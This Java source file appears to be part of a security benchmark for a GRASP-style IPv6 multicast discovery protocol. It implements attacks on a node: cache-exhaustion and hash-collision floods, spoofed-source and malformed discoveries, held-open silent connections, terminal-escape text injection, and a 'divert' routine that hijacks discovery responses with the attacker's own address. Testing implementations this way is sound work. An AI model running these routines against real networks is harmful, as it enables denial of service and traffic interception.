package io.grasp.benchmarks.attack;

import io.grasp.model.Locator;
import io.grasp.model.Objective;
import io.grasp.model.TaggedObjective;
import io.grasp.wire.Discovery;
import java.io.IOException;
import java.net.Inet6Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Deque;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/** Attacks by datagrams. */
final class MulticastAttacks {
    private static final int FIRST_SESSION = 0x2000_0000;
    private static final int TTL_MILLIS = 600_000;
    private static final int OBJECTIVES_EACH = 60;
    private static final String CONFUSING =
            "\u001b[2J\u0000\u007f\u009b1m \u202e\u2066\u200b\u2060\ufeff \u2028\u2029 \udb40\udc41\u00ad\u0378";
    private static final int LOCATORS_EACH = 32;
    /** Discoveries between one and its responses, so that the node has relayed it. */
    private static final int LATER = 3;

    private static final int CONNECTIONS = 8;
    private static final int SILENT_PER_SECOND = 20;
    private static final int MAX_SILENT = 400;
    private static final int CONNECT_MILLIS = 300;
    private static final int MANY = 0x2800_0000;
    private static final int ANSWER_MILLIS = 2000;

    private final AttackOptions options;

    MulticastAttacks(AttackOptions options) {
        this.options = options;
    }

    /** Floods values, each under a tag of its own, which any node that listens must remember. */
    void floods(Progress progress) throws IOException {
        Objective objective =
                Messages.synchronizable(options.objective, options.loopCount).withValue(Messages.bytes(options.bytes));
        InetAddress initiator = options.initiator;
        send(
                progress,
                number -> Messages.flood(
                        FIRST_SESSION + number,
                        initiator,
                        TTL_MILLIS,
                        objective,
                        List.of(Messages.bytes(options.padding).item()),
                        tag(initiator, number)));
    }

    /**
     * Fills all caches of a relay: discoveries of new objectives, each answered 32 times by the initiator itself with
     * a long locator, and floods in between. Relays may bound the rate of discoveries, so the rate of this attack is
     * theirs.
     */
    void caches(Progress progress) throws IOException {
        Objective flooded =
                Messages.synchronizable("flooded", options.loopCount).withValue(Messages.bytes(options.bytes));
        try (MulticastSender sender = new MulticastSender(options.link, options.source(0))) {
            ExecutorService answers = Executors.newFixedThreadPool(CONNECTIONS);
            Pace pace = new Pace(options.rate);
            for (int number = 0; progress.goesOn(); number++) {
                pace.await();
                Objective asked = Objective.discoverable("x" + number).withLoopCount(options.loopCount);
                sender.send(Messages.discovery(FIRST_SESSION + number, options.initiator, asked));
                for (int i = 0; i < OBJECTIVES_EACH; i++) {
                    int each = number * OBJECTIVES_EACH + i;
                    Locator tag = tag(options.initiator, each);
                    sender.send(Messages.flood(MANY + each, options.initiator, TTL_MILLIS, flooded, tag));
                }
                int answered = FIRST_SESSION + number - LATER;
                answers.execute(() -> answer(answered));
                if (progress.count() == options.count) {
                    progress.ready();
                }
            }
            answers.shutdownNow();
        }
    }

    private void answer(int session) {
        try (Stream stream = Stream.connect(null, options.target(), ANSWER_MILLIS)) {
            for (int i = 0; i < LOCATORS_EACH; i++) {
                Locator locator =
                        new Locator.Uri("https://h" + i + ".example/" + "x".repeat(options.bytes), Locator.TCP, 1);
                stream.send(Messages.response(Messages.session(session), options.initiator, List.of(locator)));
            }
        } catch (IOException e) {
            // the node refuses it; the attack goes on
        }
    }

    /** Floods as many objectives as fit into each datagram, until a cache that counts entries is full. */
    void manyObjectives(Progress progress) throws IOException {
        send(progress, number -> {
            List<TaggedObjective> objectives = new ArrayList<>();
            for (int i = 0; i < OBJECTIVES_EACH; i++) {
                String name = "x" + (number * OBJECTIVES_EACH + i);
                objectives.add(TaggedObjective.untagged(
                        Objective.synchronizable(name).withLoopCount(2).withValue(0)));
            }
            return Messages.flood(FIRST_SESSION + number, options.initiator, TTL_MILLIS, objectives);
        });
    }

    /** Floods {@code NAME0}, {@code NAME1} and so on in the name of another initiator, with a ttl of 1 ms. */
    void expire(Progress progress) throws IOException {
        send(
                progress,
                number -> Messages.flood(
                        FIRST_SESSION + number,
                        options.initiator,
                        1,
                        Objective.synchronizable(options.objective + number % options.count)
                                .withValue(0),
                        null));
    }

    /**
     * Sends floods, discoveries and malformed messages from all sources, and now and then opens a connection that stays
     * silent.
     */
    void mixed(Progress progress) throws IOException {
        Objective flooded =
                Messages.synchronizable("mixed", options.loopCount).withValue(Messages.bytes(options.bytes));
        Objective small = Messages.synchronizable("small", options.loopCount).withValue(0);
        Objective asked = Objective.discoverable("mixed").withLoopCount(options.loopCount);
        List<MulticastSender> senders = new ArrayList<>();
        Deque<Stream> silent = new ArrayDeque<>();
        try {
            for (int i = 0; i < options.from.size(); i++) {
                senders.add(new MulticastSender(options.link, options.source(i)));
            }
            Pace pace = new Pace(options.rate);
            for (int number = 0; progress.goesOn(); number++) {
                pace.await();
                int session = FIRST_SESSION + number;
                InetAddress initiator = Messages.address(0xfd66, number);
                byte[] message = switch (number % 4) {
                    case 0 -> Messages.flood(session, initiator, TTL_MILLIS, flooded, tag(initiator, number));
                    case 1 -> Messages.discovery(session, initiator, asked);
                    case 2 -> Messages.flood(FIRST_SESSION, colliding(number), 1, small, null);
                    default -> Arrays.copyOf(Messages.discovery(session, initiator, asked), number % 20);
                };
                senders.get(number / 4 % senders.size()).send(message);
                if (number % Math.max(1, options.rate / SILENT_PER_SECOND) == 0) {
                    hold(silent, number);
                }
                if (progress.count() == options.count) {
                    progress.ready();
                }
            }
        } finally {
            for (MulticastSender sender : senders) {
                sender.close();
            }
            for (Stream stream : silent) {
                stream.close();
            }
        }
    }

    private void hold(Deque<Stream> silent, int number) throws IOException {
        if (silent.size() == MAX_SILENT) {
            silent.remove().close();
        }
        try {
            silent.add(
                    Stream.connect(options.source(number / 4 % options.from.size()), options.target(), CONNECT_MILLIS));
        } catch (IOException e) {
            // the node refuses it
        }
    }

    /** Floods text that changes what a terminal shows: escapes, directions, and characters without a width. */
    void text(Progress progress) throws IOException {
        Objective objective = Objective.synchronizable(options.objective).withValue(CONFUSING);
        send(
                progress,
                number -> Messages.flood(FIRST_SESSION + number, options.initiator, TTL_MILLIS, objective, null));
    }

    /** Asks for objectives that no node supports. */
    void discoveries(Progress progress) throws IOException {
        InetAddress initiator = options.initiator;
        Objective objective = Objective.discoverable(options.objective).withLoopCount(options.loopCount);
        send(progress, number -> Messages.discovery(FIRST_SESSION + number, initiator, objective));
    }

    /** Asks from addresses of other hosts, or of none, for an objective that the node has. */
    void forged(Progress progress) throws IOException {
        ask(progress, from -> new MulticastSender(options.link, from));
    }

    /** Asks so, too, by datagrams to the node alone. */
    void unicast(Progress progress) throws IOException {
        InetAddress to = options.address();
        ask(progress, from -> MulticastSender.unicast(options.link, from, to));
    }

    /** Opens a sender. */
    @FunctionalInterface
    private interface Opening {
        MulticastSender from(InetSocketAddress source) throws IOException;
    }

    private void ask(Progress progress, Opening opening) throws IOException {
        Objective objective = Objective.discoverable(options.objective);
        List<MulticastSender> senders = new ArrayList<>();
        try {
            for (InetAddress from : options.from) {
                senders.add(opening.from(new InetSocketAddress(from, options.port)));
            }
            Pace pace = new Pace(options.rate);
            for (int number = 0; progress.goesOn(); number++) {
                pace.await();
                InetAddress initiator = Messages.address(0xfd66, number);
                senders.get(number % senders.size())
                        .send(Messages.discovery(FIRST_SESSION + number, initiator, objective));
                if (progress.count() == options.count) {
                    progress.ready();
                }
            }
        } finally {
            for (MulticastSender sender : senders) {
                sender.close();
            }
        }
    }

    /**
     * Floods with pairs of Session ID and initiator that have one hash code: that of an IPv6 address is the sum of its
     * four words.
     */
    void colliding(Progress progress) throws IOException {
        Objective objective =
                Messages.synchronizable(options.objective, options.loopCount).withValue(0);
        send(progress, number -> {
            return Messages.flood(FIRST_SESSION, colliding(number), 1, objective, null);
        });
    }

    /** {@return an address of its own for each number, all with one hash code} */
    private static InetAddress colliding(int number) {
        return Messages.address(0xfd66, Integer.toUnsignedLong(number) << 32 | -number & 0xFFFF_FFFFL);
    }

    /** {@return a tag of its own for each number, link-local for a link-local initiator: DULL allows no others} */
    private static Locator tag(InetAddress initiator, int number) {
        InetAddress address = Messages.address(initiator.isLinkLocalAddress() ? 0xfe80 : 0xfd66, number);
        return new Locator.Ipv6((Inet6Address) address, Locator.TCP, 1 + number % Locator.MAX_PORT);
    }

    /** Answers the first relayed discovery of an objective with its own address, for as long as possible. */
    void divert(Progress progress) throws IOException {
        InetAddress self = options.initiator;
        try (MulticastReceiver receiver = new MulticastReceiver(options.link)) {
            progress.ready();
            while (true) {
                MulticastReceiver.Received received = receiver.receive();
                if (received.message() instanceof Discovery asked
                        && asked.objective().name().equals(options.objective)) {
                    try (Stream stream = Stream.connect(null, received.from(), ANSWER_MILLIS)) {
                        Locator here = new Locator.Ipv6((Inet6Address) self, Locator.TCP, 666);
                        stream.send(Messages.response(asked.session(), asked.initiator(), List.of(here)));
                    }
                    progress.count();
                    return;
                }
            }
        }
    }

    /** A message by its number. */
    @FunctionalInterface
    private interface Numbered {
        byte[] message(int number);
    }

    private void send(Progress progress, Numbered messages) throws IOException {
        try (MulticastSender sender = new MulticastSender(options.link, options.source(0))) {
            Pace pace = new Pace(options.rate);
            for (int number = 0; progress.goesOn(); number++) {
                pace.await();
                sender.send(messages.message(number));
                if (progress.count() == options.count) {
                    progress.ready();
                }
            }
        }
    }
}
